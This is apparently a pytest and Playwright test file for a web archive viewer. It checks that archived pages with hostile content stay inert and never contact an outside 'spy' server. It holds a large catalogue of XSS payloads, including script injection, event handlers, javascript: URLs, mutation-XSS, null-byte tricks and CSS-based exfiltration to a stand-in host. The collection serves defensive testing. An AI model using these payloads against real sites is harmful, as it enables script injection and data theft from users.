"""U5 in a real browser: hostile pages served by the whole application stay dead, honest ones can be read."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import markup
import pytest
from browsing import watched, with_chromium
from keeping import AT, Kept, keep
from pages import PNG
from playwright.sync_api import Browser
from serving import Served, serving

from crawler.original.view import page_path

pytestmark = with_chromium
SITE = "http://herald.test"
SITES = Path(__file__).parent.parent / "sites"
SHEET = b"""@font-face{font-family:x;src:url(/font.woff2)}body{background:url(/a.png);font-family:x,serif}
header{position:fixed;top:0;left:0;right:0;height:60px;background:gold}h1{color:rgb(1,2,3)}"""

HOSTILE_SHEET = """@import '{spy}/1.css';@import url({spy}/2.css) layer(x);@\\69mport '{spy}/3.css';
@import url(data:text/css,p{{}});@import 'next.css';
@font-face{{font-family:q;src:url({spy}/4) format('woff2'),url("data:font/woff2;base64,d09GMg==")}}
h1{{color:rgb(1,2,3)}}p{{font-family:q;background:url({spy}/5),u\\72l({spy}/6),image-set('{spy}/7' 1x);
cursor:url({spy}/8),auto}}
p{{width:expression({hit});behavior:url({spy}/9);-moz-binding:url({spy}/10#x);background:url(javascript:{hit})}}
p::before{{content:url({spy}/11)}}p{{--x:url({spy}/12);mask:var(--x);filter:url({spy}/13#f)}}@namespace url({spy}/14);
@document url({spy}/15){{p{{}}}}</style><script>{hit}</script><img src={spy}/16 onerror={hit}>
p{{background:url({spy}/17"""
"""A style sheet of its own, with the same places as in HOSTILE."""
HOSTILE = {
    "scripts": "<script>{hit}</script><script src={spy}/s.js></script><script type=module>{hit}</script>"
    "<script src='data:text/javascript,{hit}'></script><svg><script>{hit}</script><script href={spy}/x /></svg>"
    "<math><script>{hit}</script></math><link rel=preload as=script href={spy}/p.js>"
    "<link rel=modulepreload href={spy}/m.js>",
    "handlers": "<body onload={hit} onpageshow={hit}><img src=x onerror={hit}><video><source onerror={hit}></video>"
    "<details open ontoggle={hit}>x</details><input autofocus onfocus={hit}><marquee onstart={hit}>x</marquee>"
    "<style onload={hit}></style><div onanimationstart={hit} style='animation:x 1s'>x</div>"
    "<style>@keyframes x{{}}</style>",
    "frames": "<iframe src={spy}/f></iframe><iframe srcdoc='<script>top.{hit}</script>'></iframe><frameset>"
    "<frame src={spy}/g></frameset><object data={spy}/o></object><embed src={spy}/e><applet code={spy}/a>"
    "</applet><portal src={spy}/p></portal><iframe src='javascript:{hit}'></iframe><object data='data:text/html,"
    "<script>{hit}</script>'></object>",
    "leads away": "<meta http-equiv=refresh content='0;url={spy}/refresh'>"
    "<meta http-equiv=refresh content='0;javascript:{hit}'><base href={spy}/ target=_top><form action={spy}/form>"
    "<button autofocus>x</button><input type=submit></form><a href=/relative ping={spy}/ping>x</a>"
    "<a href='javascript:{hit}'>x</a><area href=javascript:{hit}>",
    "loads": "<img src={spy}/i.png srcset='{spy}/2.png 2x, {spy}/3.png 3x'><picture><source srcset={spy}/4.png><img>"
    "</picture><video poster={spy}/5.png src={spy}/6.mp4 autoplay></video><audio src={spy}/7.mp3 autoplay>"
    "</audio><track src={spy}/8><link rel=stylesheet href={spy}/9.css><link rel=icon href={spy}/10>"
    "<link rel=dns-prefetch href=//dns.test><link rel=preconnect href={spy}><link rel=prefetch href={spy}/11>"
    "<link rel=manifest href={spy}/12><input type=image src={spy}/13><table background={spy}/14>"
    "<td background={spy}/15>x</table><body background={spy}/16><svg><image href={spy}/17 />"
    "<use href={spy}/18#x /><feImage href={spy}/19 /></svg><img src=//{bare}/20><img src='\\\\{bare}\\21'>"
    "<img src=' {spy}/22'>",
    "css": "<style>@import '{spy}/1.css';@import url({spy}/2.css);@\\69mport '{spy}/3.css';p{{backgroun"
    "d:url({spy}/4)}}p{{background:u\\72l({spy}/5)}}input[value^=a]{{background:url({spy}/6)}}@f"
    "ont-face{{font-family:q;src:url({spy}/7)}}p{{font-family:q;cursor:url({spy}/8),auto;list-s"
    "tyle:url({spy}/9);content:url({spy}/10)}}p{{background:image-set('{spy}/11' 1x);-webkit-ma"
    "sk:url({spy}/12);filter:url({spy}/13#f);clip-path:url({spy}/14#c)}}p{{background:url(javas"
    "cript:{hit})}}p{{width:expression({hit})}}/*</style><script>{hit}</script>*/p{{x:'</style>"
    "<img src=y onerror={hit}>'}}</style><p style=\"background:url('{spy}/15')\">x</p>"
    "<p style='background:\\75rl({spy}/16);x:&quot;</p><script>{hit}</script>'>y</p>"
    "<div style='--x:url({spy}/17);background:var(--x)'>z</div>"
    "<link rel=stylesheet href='data:text/css,@import &quot;{spy}/18&quot;'>",
    "mutation": "<svg></p><style><a id='</style><img src=1 onerror={hit}>'></svg><math><mtext><table><mglyph><style>"
    "<!--</style><img title='--&gt;&lt;img src=1 onerror={hit}&gt;'></math><noscript><p title='</noscript>"
    "<img src=x onerror={hit}>'></noscript><form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror={hit}></style><textarea><p title='</textarea><img src=x onerror={hit}>'></textarea><select>"
    "<template><img src=x onerror={hit}></template></select><xmp><p title='</xmp><img src=x onerror={hit}>'>"
    "</xmp><title><p title='</title><img src=x onerror={hit}>'></title><!--><img src=x onerror={hit}>-->"
    "<template shadowrootmode=open><script>{hit}</script><img src=x onerror={hit}></template><svg><foreignObject>"
    "<iframe srcdoc='<script>{hit}</script>'></iframe></foreignObject><animate onbegin={hit}>"
    "<set attributeName=href to=javascript:{hit}></svg><plaintext><script>{hit}</script>",
    "bytes": "<scr\0ipt>{hit}</scr\0ipt><img src=x on\0error={hit}><img\0 src=x onerror={hit}>"
    "<im\x0cg src=x onerror={hit}><a href='java\0script:{hit}'>x</a><a href='&#106;avascript&colon;{hit}'>x</a>"
    "<a href='\x01javascript:{hit}'>x</a>+ADw-script+AD4-{hit}+ADw-/script+AD4-"
    "<img src=&#120; onerror=&#97;lert(1)><<script>{hit}//<</script><img src='x' onerror\n=\n'{hit}'>"
    "<img/src=x/onerror={hit}><img src=x:x `onerror={hit}`>&lt;script&gt;{hit}&lt;/script&gt;",
}
"""Kind → markup; `{hit}` is a script, `{spy}` the address of a server that must not be asked, `{bare}` its host."""


@contextmanager
def spying() -> Iterator[tuple[str, list[str]]]:
    """A server elsewhere, and what it was asked."""
    told: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.append(self.path)
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, *_arguments: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", told
    finally:
        server.shutdown()
        server.server_close()


def payloads(spy: str, step: int) -> dict[str, bytes]:
    """Path → page: the kinds above, and one in `step` of what the generators make."""
    bare = spy.removeprefix("http://")
    pages = {
        f"/{name.replace(' ', '-')}.html": f"<h1>Still here</h1>{text.format(hit='alert(1)', spy=spy, bare=bare)}"
        for name, text in HOSTILE.items()
    }
    made = (markup.event_matrix(), markup.nested(2), markup.url_matrix(), markup.mixtures(20_000, 5))
    lists = [*markup.WHOLE, *markup.styles(), *(one for several in made for one in list(several)[::step])]
    for number in range(0, len(lists), 80):
        together = "</div><div>".join(lists[number : number + 80])
        pages[f"/list-{number}.html"] = f"<h1>Still here</h1><div>{together}</div>"
    return {path: text.encode("utf-8", "replace") for path, text in pages.items()}


@pytest.mark.parametrize("step", [400, pytest.param(8, marks=pytest.mark.torture)])
def test_U5_hostile_pages_stay_dead(browser: Browser, tmp_path: Path, step: int) -> None:
    with spying() as (spy, told):
        pages = payloads(spy, step)
        keep(tmp_path, [Kept(SITE + path, body) for path, body in pages.items()])
        with serving(tmp_path) as served:
            context, page, seen = watched(browser)
            for path in pages:
                place = served.original + page_path(SITE + path, AT)
                page.goto(place)
                for height in (80, 300, 600):
                    page.mouse.move(10, height)
                    page.mouse.move(1200, height, steps=4)
                    page.keyboard.press("Tab")
                assert page.locator("h1", has_text="Still here").first.is_visible(), path
                assert page.url.partition("#")[0] == place and len(page.frames) == 1, path
                assert seen.acted == [] and seen.blocked() == [], (path, seen)
                assert {url.removeprefix(served.original)[:6] for url in seen.asked} <= {"/page/", "/favic"}, path
            context.close()
        assert told == []


def test_U5_hostile_style_sheets_style_and_ask_nobody(browser: Browser, tmp_path: Path) -> None:
    with spying() as (spy, told):
        sheet = HOSTILE_SHEET.format(hit="alert(1)", spy=spy).encode()
        page_body = b"<link rel=stylesheet href=/a.css><h1>Still here</h1><p>Words</p>"
        sheets = [Kept(f"{SITE}/{name}.css", sheet, "text/css") for name in ("a", "next")]
        keep(tmp_path, [Kept(f"{SITE}/a.html", page_body), *sheets])
        with serving(tmp_path) as served:
            context, page, seen = watched(browser)
            page.goto(served.original + page_path(f"{SITE}/a.html", AT), wait_until="networkidle")
            assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
            assert all(url.startswith(served.original + "/") for url in seen.asked) and "next" in str(seen.asked)
            assert seen.acted == [] and seen.blocked() == [], seen
            context.close()
        assert told == []


def test_U5_a_click_leads_nowhere_but_to_the_archive(browser: Browser, tmp_path: Path) -> None:
    with spying() as (spy, told):
        links = [f"<a href={spy}/x target=_blank>1</a>", "<a href=javascript:alert(1)>2</a>", "<a href=/b.html>3</a>"]
        links += [f"<form action={spy}/y><button>4</button></form>", f"<a href={spy}/z download ping={spy}/w>5</a>"]
        keep(tmp_path, [Kept(f"{SITE}/a.html", "".join(links).encode()), Kept(f"{SITE}/b.html", b"<h1>B</h1>")])
        with serving(tmp_path) as served:
            context, page, seen = watched(browser)
            for text in "12345":
                page.goto(served.original + page_path(f"{SITE}/a.html", AT))
                page.get_by_text(text, exact=True).click()
                page.wait_for_load_state()
                assert page.url.startswith(served.original + "/page/"), text
                assert page.locator("h1", has_text="B").count() == (text == "3")
            assert seen.acted == [] and all(url.startswith(served.original) for url in seen.asked)
            context.close()
        assert told == []


@pytest.mark.parametrize("width", [1280, 390])
def test_recorded_pages_show_their_headlines(browser: Browser, tmp_path: Path, width: int) -> None:
    recorded = {
        path: json.loads(path.with_suffix(".json").read_text("utf-8")) for path in sorted(SITES.rglob("*.html"))
    }
    captures = []
    for path, about in recorded.items():
        kind = next((value for name, value in about.get("headers", ()) if name.lower() == "content-type"), "text/html")
        captures.append(Kept(about["url"], path.read_bytes(), kind))
    keep(tmp_path, captures)
    with serving(tmp_path) as served:
        for path, about in recorded.items():
            title = next(
                line.removeprefix("title: ").strip("'\"")
                for line in path.with_suffix(".md").read_text("utf-8").splitlines()
                if line.startswith("title: ")
            )
            context, page, seen = watched(browser, width)
            page.goto(served.original + page_path(about["url"], AT))
            shown = page.get_by_text(title).last
            assert shown.is_visible(), title
            box = shown.bounding_box()
            assert box is not None and box["y"] < 900 and box["x"] + box["width"] <= width
            assert seen.blocked() == [] and page.evaluate("document.documentElement.scrollWidth") <= width
            context.close()


def test_pictures_sheets_and_fonts_of_the_archive_are_shown(browser: Browser, tmp_path: Path) -> None:
    body = b"<link rel=stylesheet href=/s.css><header>Fixed</header><h1>Headline</h1><img id=a src=/a.png width=40>"
    keep(
        tmp_path,
        [
            Kept(f"{SITE}/a.html", body),
            Kept(f"{SITE}/s.css", SHEET, "text/css"),
            Kept(f"{SITE}/a.png", PNG, "image/png"),
            Kept(f"{SITE}/font.woff2", b"wOF2", "font/woff2"),
        ],
    )
    with serving(tmp_path) as served:
        context, page, seen = watched(browser)
        answers = []
        page.on("response", lambda response: answers.append((response.url.split("/")[4][:7], response.status)))
        page.goto(served.original + page_path(f"{SITE}/a.html", AT), wait_until="networkidle")
        assert page.evaluate("document.getElementById('a').naturalWidth") > 0
        assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
        assert sorted(answers) == [("picture", 200)] * 2 + [("style", 200)] or "font" in str(seen.asked)
        assert seen.blocked() == []
        line, header = page.locator(".line").bounding_box(), page.locator("header").bounding_box()
        assert line is not None and header is not None and header["y"] >= line["y"] + line["height"]
        context.close()


@pytest.mark.parametrize("width", [1280, 390])
def test_the_original_stands_beside_the_post(browser: Browser, served: Served, width: int) -> None:
    context, page, seen = watched(browser, width)
    page.goto(served.url + "article/herald/2026/03/05-bridge.md")
    page.get_by_role("link", name="Original beside it").click()
    inside = page.frame_locator("iframe")
    inside.get_by_role("heading", name="Bridge").wait_for()
    assert page.locator(".article h1", has_text="Bridge").count() == 1 and len(page.frames) == 2
    assert page.evaluate("document.documentElement.scrollWidth") <= width and seen.blocked() == []
    assert inside.locator(".line").inner_text().startswith("Archived copy of http://herald.test/a/bridge.html")
    page.locator("summary", has_text="Digests").first.click()
    with page.expect_download() as download:
        page.get_by_role("link", name="HTTP head").first.click()
    assert Path(download.value.path()).read_bytes().startswith(b"HTTP/1.1 200 OK")
    assert all(url.startswith((served.url, served.original)) for url in seen.asked)
    context.close()


def test_U6_only_the_reader_may_show_a_stored_page_in_a_frame(browser: Browser, tmp_path: Path) -> None:
    keep(tmp_path, [Kept(f"{SITE}/a.html", b"<h1>Headline</h1>")])
    with serving(tmp_path) as served, framing(served) as stranger:
        context, page, seen = watched(browser)
        page.goto(stranger)
        page.wait_for_timeout(500)
        assert all(frame.get_by_text("Headline").count() == 0 for frame in page.frames)
        assert any("frame-ancestors" in text for text in seen.said)
        assert page.evaluate("document.getElementById('picture').naturalWidth") == 0
        context.close()


@contextmanager
def framing(served: Served) -> Iterator[str]:
    """A page of a stranger that frames a stored page and asks for it as a picture."""
    path = served.original + page_path(f"{SITE}/a.html", AT)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f"<iframe src='{path}'></iframe><img id=picture src='{path}'>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_arguments: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
